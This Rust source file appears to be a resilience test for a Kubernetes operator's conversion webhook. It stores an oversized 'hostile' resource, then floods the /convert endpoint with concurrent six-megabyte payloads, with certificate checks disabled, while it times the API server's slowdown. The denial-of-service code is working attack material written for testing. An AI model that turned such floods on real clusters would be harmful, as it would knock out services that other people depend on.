//! Denial of service: one stored resource with half a million values, and calls of the conversion webhook with
//! six megabytes of zeros each.

use std::time::{Duration, Instant};

use futures::{StreamExt, stream};
use reqwest::Client;
use serde_json::Value;

use crate::api::{Api, resource, resources};

const VALUES: usize = 500_000;
const CALLS: usize = 64;
/// Of each call.
const BYTES: usize = 6 << 20;

/// Stores a resource that is one large list, beside those of the bench.
pub async fn store(api: &Api, namespace: &str) -> anyhow::Result<()> {
    let mut hostile = resource(namespace, 0);
    hostile["metadata"]["name"] = "hostile".into();
    hostile["spec"]["providers"]["inference"]["settings"]["zeros"] = vec![0; VALUES].into();
    api.post(&resources("v1alpha2", namespace), &hostile).await.map(drop)
}

pub async fn remove(api: &Api, namespace: &str) -> anyhow::Result<()> {
    api.delete_all(&format!("{}/hostile", resources("v1alpha2", namespace))).await
}

/// Calls as any pod can make them, sixteen at a time. How long the slowest of the API server's own calls took
/// meanwhile.
pub async fn flood(api: &Api, namespace: &str, url: &str) -> anyhow::Result<Duration> {
    let zeros = "0,".repeat(BYTES / 2) + "0";
    let review = format!(
        r#"{{"apiVersion":"apiextensions.k8s.io/v1","kind":"ConversionReview","request":{{
            "uid":"1","desiredAPIVersion":"llamastack.io/v1alpha2","objects":[{{
            "apiVersion":"llamastack.io/v1alpha1","kind":"LlamaStackDistribution",
            "metadata":{{"name":"a"}},"spec":{{"server":[{zeros}]}}}}]}}}}"#
    );
    // An attacker does not verify the operator's own certificate.
    let client = Client::builder().tls_danger_accept_invalid_certs(true).no_proxy().build()?;
    let url = format!("{url}/convert");
    let calls = stream::iter(0..CALLS).for_each_concurrent(16, async |_| {
        // A call that the operator rejects has cost it memory, too.
        let _ = client.post(&url).body(review.clone()).send().await;
    });
    let one = format!("{}?limit=1", resources("v1alpha1", namespace));
    let mut slowest = Duration::ZERO;
    let others = async {
        loop {
            let begun = Instant::now();
            let _: Value = api.list(&one).await?;
            slowest = slowest.max(begun.elapsed());
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    };
    tokio::select! {
        () = calls => Ok(slowest),
        failed = others => failed,
    }
}
